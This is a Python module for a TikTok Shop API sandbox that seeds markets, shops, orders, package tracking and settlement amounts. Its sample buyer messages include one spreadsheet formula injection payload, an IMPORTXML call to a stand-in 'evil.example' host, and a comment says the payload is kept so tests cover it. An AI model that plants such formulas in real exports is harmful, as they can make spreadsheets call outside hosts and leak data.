"""The TikTok Shop sandbox's world: markets, shops, seeded orders and their lifecycle, money.

Each order carries a plan (status transitions at instants); its status, update_time, tracking and
settlement are read off the plan at the sandbox clock's "now", so moving the clock moves every
order through UNPAID → ON_HOLD → AWAITING_SHIPMENT → … → COMPLETED (or CANCELLED) deterministically.
"""

from __future__ import annotations

import random
from collections.abc import Iterable
from dataclasses import dataclass, field
from decimal import ROUND_HALF_UP, Decimal
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from backend.sandbox.tiktok.after_sales import Case

from backend.sandbox.plan import Planned

HOUR = 3600
DAY = 24 * HOUR
ON_HOLD_SECONDS = HOUR
CENT = Decimal("0.01")
SHIPPED = frozenset({"AWAITING_COLLECTION", "IN_TRANSIT", "DELIVERED", "COMPLETED"})
NO_ADDRESS = frozenset({"UNPAID", "ON_HOLD"})
LINE_STATUS = {"ON_HOLD": "AWAITING_SHIPMENT", "PARTIALLY_SHIPPING": "AWAITING_SHIPMENT"}
BUYER_MESSAGES = (
    "",
    "",
    "",
    "Please gift wrap, it's a birthday present!",
    "Leave at the back door please",
    '=IMPORTXML("http://evil.example/x","//a")',
    "Can you ship before Friday?",
    "请尽快发货",
)
# The same buyers without the formula-looking message (which tests keep): for the demo, which a seller reads.
PLAIN_BUYER_MESSAGES = tuple("Is the blue one back in stock?" if m.startswith("=") else m for m in BUYER_MESSAGES)
CANCEL_PLANS = {  # fate → (stage it happens in, initiator, reason)
    "unpaid_timeout": ("UNPAID", "SYSTEM", "Payment overdue"),
    "buyer_remorse": ("ON_HOLD", "BUYER", "No longer needed"),
    "out_of_stock": ("AWAITING_SHIPMENT", "SELLER", "Out of stock"),
}


def cents(value: Decimal) -> Decimal:
    return value.quantize(CENT, rounding=ROUND_HALF_UP)


@dataclass(frozen=True)
class Market:
    region: str
    currency: str
    time_zone: str
    has_on_hold: bool
    sea_sla: bool
    sales_tax_rate: Decimal
    carriers: tuple[str, ...]
    price_range: tuple[int, int]
    shipping_fee: Decimal
    first_name: str
    city: tuple[str, str]
    express_carrier: str = ""  # offered only for the seller's express delivery option
    combines: bool = False  # TikTok combines and splits packages before shipping here (SEA, LATAM)


MARKETS = {
    "US": Market(
        "US", "USD", "America/Los_Angeles", True, False, Decimal("0.0825"), ("USPS", "UPS", "FedEx"), (8, 60),
        Decimal("4.99"), "Jordan", ("Los Angeles", "California"), "DHL Express",
    ),
    "GB": Market(
        "GB", "GBP", "Europe/London", True, False, Decimal(0), ("Royal Mail", "Evri", "DPD"), (5, 45),
        Decimal("2.99"), "Olivia", ("Manchester", "Greater Manchester"), "Parcelforce",
    ),
    "MY": Market(
        "MY", "MYR", "Asia/Kuala_Lumpur", False, True, Decimal(0), ("J&T Express", "Pos Laju", "Ninja Van"),
        (15, 180), Decimal("4.90"), "Aisyah", ("Kuala Lumpur", "Wilayah Persekutuan"), "DHL eCommerce", True,
    ),
}  # fmt: skip


@dataclass(frozen=True)
class Sku:
    sku_id: str
    product_id: str
    product_name: str
    sku_name: str
    seller_sku: str
    price: Decimal


@dataclass
class Package:
    package_id: str
    order_ids: list[str]
    shipping_type: str  # SELLER | TIKTOK
    delivery_option_id: str
    ship_time: int | None = None  # planned or actual
    tracking_number: str = ""
    provider_id: str = ""
    provider_name: str = ""
    handover_method: str = ""
    pickup_slot: tuple[int, int] | None = None
    label_fault: bool = False  # TikTok cannot create this package's label: shipping it fails


@dataclass
class Line:
    line_id: str
    sku: Sku
    package_id: str
    seller_discount: Decimal
    platform_discount: Decimal


@dataclass
class Order(Planned):
    order_id: str
    shop_id: str
    user_id: str
    create_time: int
    lines: list[Line]
    plan: list[tuple[int, str]]
    buyer_message: str
    shipping_fee_paid: Decimal
    shipping_platform_discount: Decimal
    tax: Decimal
    affiliate: bool
    combined: bool = False
    cancel: tuple[str, str] | None = None  # (initiator, reason)
    cancelled_lines: set[str] = field(default_factory=set)  # lines the seller cancelled alone (US, UK)
    touched: int = 0  # last update not in the plan (e.g. ship via API)
    seller_note: str = ""  # what the seller typed in Seller Center
    street: str = ""  # the address the buyer changed to (empty: the seeded one)
    address_fault: bool = False  # the carrier cannot use the address: shipping on TikTok fails until fixed
    delivery_fault: bool = False  # delivery attempts fail and the parcel goes back to the sender
    delivery_delay: int = 0  # seconds the carrier is late beyond its usual transit
    # Fields rendered over the real ones, to serve a malformed payload as a buggy API day would.
    damage: dict[str, Any] = field(default_factory=dict)

    def package_ids(self) -> list[str]:
        return list(dict.fromkeys(line.package_id for line in self.lines))


@dataclass
class Shop:
    shop_id: str
    cipher: str
    code: str
    name: str
    market: Market
    catalog: list[Sku]
    warehouse_id: str
    seller_option_id: str
    tiktok_option_id: str
    providers: dict[str, str]  # provider id → name (the standard seller option's carriers)
    express_providers: dict[str, str] = field(default_factory=dict)  # the express option adds these
    retired: set[str] = field(default_factory=set)  # provider ids TikTok no longer offers
    orders: dict[str, Order] = field(default_factory=dict)
    packages: dict[str, Package] = field(default_factory=dict)
    on_hand: dict[str, int] = field(default_factory=dict)  # sku id → units on the shelf (warehouse_id)
    cases: dict[str, Case] = field(default_factory=dict)  # after-sales requests by cancel or return id
    seller: str = "Sandbox Seller"  # the seller account that may authorize the shop on the consent page
    buyer_messages: tuple[str, ...] = BUYER_MESSAGES

    @property
    def express_option_id(self) -> str:
        """The seller's express option (no rng draw, so seeded worlds stay as they were)."""
        return self.seller_option_id[:-2] + "99"

    def option_name(self, option_id: str) -> str:
        names = {self.seller_option_id: "Standard shipping", self.express_option_id: "Express shipping"}
        return names.get(option_id, "Shipped by TikTok")

    def option_carriers(self, option_id: str) -> dict[str, str] | None:
        """Provider id → name offered for a delivery option; None for an option TikTok ships itself."""
        if option_id == self.tiktok_option_id:
            return None
        offered = dict(self.providers)
        if option_id == self.express_option_id:
            offered |= self.express_providers
        return {i: n for i, n in offered.items() if i not in self.retired}

    def committed(self, sku_id: str, now: int) -> int:
        """Units held by orders paid but not shipped, as TikTok's committed_quantity counts them."""
        held = 0
        for order in self.orders.values():
            if order.status_at(now) in ("ON_HOLD", "AWAITING_SHIPMENT", "PARTIALLY_SHIPPING"):
                shipped = {p for p in order.package_ids() if (t := self.packages[p].ship_time) and t <= now}
                held += sum(1 for ln in order.lines if ln.sku.sku_id == sku_id and ln.package_id not in shipped)
        return held

    def region_json(self) -> dict[str, Any]:
        return {
            "id": self.shop_id,
            "cipher": self.cipher,
            "code": self.code,
            "name": self.name,
            "region": self.market.region,
            "seller_type": "LOCAL",
        }


class Ids:
    """Deterministic 18/19-digit string ids, like TikTok's 64-bit ids."""

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng
        self._seen: set[str] = set()

    def new(self, prefix: str = "57") -> str:
        while True:
            value = prefix + str(self._rng.randrange(10**16, 10**17))
            if value not in self._seen:
                self._seen.add(value)
                return value


def new_shop(
    rng: random.Random,
    ids: Ids,
    name: str,
    region: str,
    *,
    seller: str = "Sandbox Seller",
    buyer_messages: tuple[str, ...] = BUYER_MESSAGES,
) -> Shop:
    market = MARKETS[region]
    catalog = []
    for p in range(12):
        product_id = ids.new("17")
        for size in ("S", "L"):
            price = Decimal(rng.randrange(*market.price_range)) + Decimal("0.99")
            catalog.append(
                Sku(ids.new("17"), product_id, f"{name} product {p + 1}", f"Colour {p % 4}, {size}",
                    f"{region}-P{p + 1:02d}-{size}", price)
            )  # fmt: skip
    providers = {ids.new("69"): carrier for carrier in market.carriers}
    express = {next(iter(providers))[:-2] + "98": market.express_carrier}  # derived: no rng draw
    on_hand = {sku.sku_id: 200 + 10 * index for index, sku in enumerate(catalog)}  # no rng: seeds stay put
    return Shop(
        shop_id=ids.new("74"),
        cipher=f"ROW_{rng.randbytes(18).hex()}",
        code=f"{region}{rng.randrange(10**9):09d}",
        name=name,
        market=market,
        catalog=catalog,
        warehouse_id=ids.new("72"),
        seller_option_id=ids.new("70"),
        tiktok_option_id=ids.new("71"),
        providers=providers,
        express_providers=express if market.express_carrier else {},
        on_hand=on_hand,
        seller=seller,
        buyer_messages=buyer_messages,
    )


def _plan(rng: random.Random, market: Market, created: int, fate: str, packages: int) -> list[tuple[int, str]]:
    """Status transitions for one order; `fate` is 'normal' or a key of CANCEL_PLANS."""
    plan = [(created, "UNPAID")]
    stage = CANCEL_PLANS[fate][0] if fate in CANCEL_PLANS else None
    if stage == "UNPAID":
        return [*plan, (created + DAY, "CANCELLED")]
    paid = created + rng.randrange(60, 20 * 60)
    ready = paid + (ON_HOLD_SECONDS if market.has_on_hold else 0)
    if market.has_on_hold:
        plan.append((paid, "ON_HOLD"))
        if stage == "ON_HOLD":
            return [*plan, (paid + rng.randrange(60, ON_HOLD_SECONDS - 60), "CANCELLED")]
    plan.append((ready, "AWAITING_SHIPMENT"))
    if stage == "AWAITING_SHIPMENT":
        return [*plan, (ready + rng.randrange(HOUR, DAY), "CANCELLED")]
    ship = ready + rng.randrange(2 * HOUR, 30 * HOUR)
    if packages > 1:
        plan.append((ship, "PARTIALLY_SHIPPING"))
        ship += rng.randrange(4 * HOUR, 30 * HOUR)
    return plan + after_shipping(rng, ship)


def after_shipping(rng: random.Random, shipped: int, collected: int | None = None) -> list[tuple[int, str]]:
    """Shipped, collected (at `collected` when a pickup slot says when), delivered, completed."""
    collected = collected if collected is not None else shipped + rng.randrange(4 * HOUR, DAY)
    delivered = collected + rng.randrange(2 * DAY, 5 * DAY)
    return [
        (shipped, "AWAITING_COLLECTION"),
        (collected, "IN_TRANSIT"),
        (delivered, "DELIVERED"),
        (delivered + 7 * DAY, "COMPLETED"),
    ]


def delivery_fate(order: Order, plan: list[tuple[int, str]]) -> list[tuple[int, str]]:
    """The plan with the order's delivery trouble applied: a failed delivery never arrives, a late one later."""
    delivery = ("DELIVERED", "COMPLETED")
    return [
        (when + order.delivery_delay if status in delivery else when, status)
        for when, status in plan
        if not (order.delivery_fault and status in delivery)
    ]


def make_order(rng: random.Random, ids: Ids, shop: Shop, created: int, *, fate: str, split: bool) -> Order:
    market = shop.market
    order_id = ids.new("57")
    skus = rng.sample(shop.catalog, rng.choice((1, 1, 1, 2, 3)))
    units = [(sku, rng.choice((1, 1, 1, 2, 3))) for sku in skus]
    split = split and (len(units) > 1 or units[0][1] > 1)
    shipping_type = "TIKTOK" if rng.random() < 0.3 else "SELLER"
    option = shop.tiktok_option_id if shipping_type == "TIKTOK" else shop.seller_option_id
    if shipping_type == "SELLER" and int(order_id[-1]) % 3 == 0:
        option = shop.express_option_id
    package_ids = [ids.new("11") for _ in range(2 if split else 1)]
    discount_rate = rng.choice((Decimal(0), Decimal(0), Decimal("0.1")))
    lines = []
    for index, (sku, count) in enumerate(units):
        for _ in range(count):
            seller_discount = cents(sku.price * discount_rate)
            platform_discount = cents(sku.price * Decimal("0.05")) if rng.random() < 0.2 else Decimal(0)
            package_id = package_ids[min(index, len(package_ids) - 1)] if split else package_ids[0]
            lines.append(Line(ids.new("57"), sku, package_id, seller_discount, platform_discount))
    if split and len({line.package_id for line in lines}) == 1:  # one SKU, several units: split by unit
        lines[-1].package_id = package_ids[1]
    plan = _plan(rng, market, created, fate, len(package_ids))
    sub_total = sum((ln.sku.price - ln.seller_discount - ln.platform_discount for ln in lines), Decimal(0))
    free_shipping = sub_total >= 35
    order = Order(
        order_id=order_id,
        shop_id=shop.shop_id,
        user_id=ids.new("75"),
        create_time=created,
        lines=lines,
        plan=plan,
        buyer_message=rng.choice(shop.buyer_messages),
        shipping_fee_paid=Decimal(0) if free_shipping else market.shipping_fee,
        shipping_platform_discount=market.shipping_fee if free_shipping else Decimal(0),
        tax=cents(sub_total * market.sales_tax_rate),
        affiliate=rng.random() < 0.25,
        cancel=CANCEL_PLANS[fate][1:] if fate in CANCEL_PLANS else None,
    )
    ship_times = [when for when, s in plan if s in ("PARTIALLY_SHIPPING", "AWAITING_COLLECTION")]
    for index, package_id in enumerate(package_ids):
        package = Package(package_id, [order_id], shipping_type, option)
        shop.packages[package_id] = package
        if index < len(ship_times):
            assign_tracking(rng, shop, package, ship_times[index])
    shop.orders[order_id] = order
    return order


def assign_tracking(rng: random.Random, shop: Shop, package: Package, when: int) -> None:
    provider_id = sorted(shop.providers)[rng.randrange(len(shop.providers))]
    package.ship_time = when
    package.provider_id = provider_id
    package.provider_name = shop.providers[provider_id]
    package.tracking_number = f"{package.provider_name[:2].upper()}{rng.randrange(10**11, 10**12)}"


def combine(shop: Shop, first: Order, second: Order) -> None:
    """Ship two orders of one buyer in one package (COMBINED), as TikTok does for same-day orders."""
    second.user_id = first.user_id
    second.plan = [(when + 60, status) if when > second.create_time else (when, status) for when, status in first.plan]
    second.plan = [(second.create_time, "UNPAID")] + [p for p in second.plan if p[1] != "UNPAID"]
    second.cancel = first.cancel
    target = first.lines[0].package_id
    for pid in second.package_ids():
        shop.packages.pop(pid, None)
    for line in second.lines:
        line.package_id = target
    shop.packages[target].order_ids.append(second.order_id)
    first.combined = second.combined = True


def seed_orders(rng: random.Random, ids: Ids, shop: Shop, count: int, *, now: int, history_days: int = 30) -> None:
    """`count` orders: the first few pinned to statuses demos and tests need, the rest spread over
    `history_days` with a tenth in the last six hours so every live status is populated.
    With `history_days=0` every order is brand new: placed in the last five minutes."""
    pinned: list[tuple[int, str, bool]] = [  # (age in seconds, fate, split)
        (10 * 60 if shop.market.has_on_hold else 3 * HOUR, "normal", False),  # ON_HOLD (or AWAITING)
        (30, "normal", False),  # UNPAID, with the formula-looking buyer message
        (3 * HOUR, "normal", False),  # AWAITING_SHIPMENT
        (20 * DAY, "out_of_stock", False),  # CANCELLED by seller
        (20 * DAY, "normal", True),  # split, COMPLETED
    ]
    previous: Order | None = None
    for index in range(count):
        if history_days == 0:
            age, fate, split = rng.randrange(0, 300), "normal", False
        elif index < len(pinned):
            age, fate, split = pinned[index]
        else:
            recent = rng.random() < 0.1
            age = rng.randrange(60, 6 * HOUR) if recent else rng.randrange(6 * HOUR, history_days * DAY)
            fate = rng.choices(("normal", *CANCEL_PLANS), weights=(88, 4, 4, 4))[0]
            split = rng.random() < 0.05
        order = make_order(rng, ids, shop, now - age, fate=fate, split=split)
        if index == 1:
            order.buyer_message = shop.buyer_messages[5]
        if previous is not None and index % 50 == 49 and fate == "normal" and not split and not previous.combined:
            combine(shop, previous, order)
        previous = order


def sum_amounts(blocks: Iterable[dict[str, Any]]) -> dict[str, Any]:
    """Add finance blocks field by field (nested dicts recursively), keeping TikTok's string format."""
    total: dict[str, Any] = {}
    for block in blocks:
        for key, value in block.items():
            if isinstance(value, dict):
                total[key] = sum_amounts([total.get(key, {}), value])
            elif key.endswith("amount"):
                total[key] = str(cents(Decimal(total.get(key, "0")) + Decimal(value)))
    return total


def sku_settlements(shop: Shop, order: Order) -> list[dict[str, Any]]:
    """SKU-level 202501 settlement blocks: fees and costs as NEGATIVE strings, as TikTok's samples show."""
    by_sku: dict[str, list[Line]] = {}
    for line in order.lines:
        by_sku.setdefault(line.sku.sku_id, []).append(line)
    blocks = []
    for index, (sku_id, lines) in enumerate(by_sku.items()):
        gross = sum((ln.sku.price for ln in lines), Decimal(0))
        discount = sum((ln.seller_discount for ln in lines), Decimal(0))
        revenue = gross - discount
        carrier_cost = Decimal("5.20") if index == 0 else Decimal(0)
        paid = order.shipping_fee_paid if index == 0 else Decimal(0)
        subsidy = order.shipping_platform_discount if index == 0 else Decimal(0)
        shipping = {
            "actual_shipping_fee_amount": -carrier_cost,
            "customer_paid_shipping_fee_amount": paid,
            "shipping_fee_discount_amount": subsidy,
        }
        fee = {
            "platform_commission_amount": -cents(revenue * Decimal("0.06")),
            "transaction_fee_amount": -cents(revenue * Decimal("0.029")),
        }
        if shop.market.region == "US":
            fee["referral_fee_amount"] = -cents(revenue * Decimal("0.02"))
        if order.affiliate:
            fee["affiliate_commission_amount"] = -cents(revenue * Decimal("0.10"))
        tax = {"sst_amount": cents(sum(fee.values(), Decimal(0)) * Decimal("0.06"))} if shop.market.sea_sla else {}
        shipping_total = sum(shipping.values(), Decimal(0))
        fee_tax_total = sum(fee.values(), Decimal(0)) + sum(tax.values(), Decimal(0))
        blocks.append(
            {
                "sku_id": sku_id,
                "sku_name": lines[0].sku.sku_name,
                "product_name": lines[0].sku.product_name,
                "quantity": str(len(lines)),
                "currency": shop.market.currency,
                "revenue_amount": str(revenue),
                "revenue_breakdown": {
                    "subtotal_before_discount_amount": str(gross),
                    "seller_discount_amount": str(-discount),
                },
                "shipping_cost_amount": str(shipping_total),
                "shipping_cost_breakdown": {k: str(v) for k, v in shipping.items()},
                "fee_tax_amount": str(fee_tax_total),
                "fee_tax_breakdown": {
                    "fee": {k: str(v) for k, v in fee.items()},
                    "tax": {k: str(v) for k, v in tax.items()},
                },
                "settlement_amount": str(revenue + shipping_total + fee_tax_total),
            }
        )
    return blocks
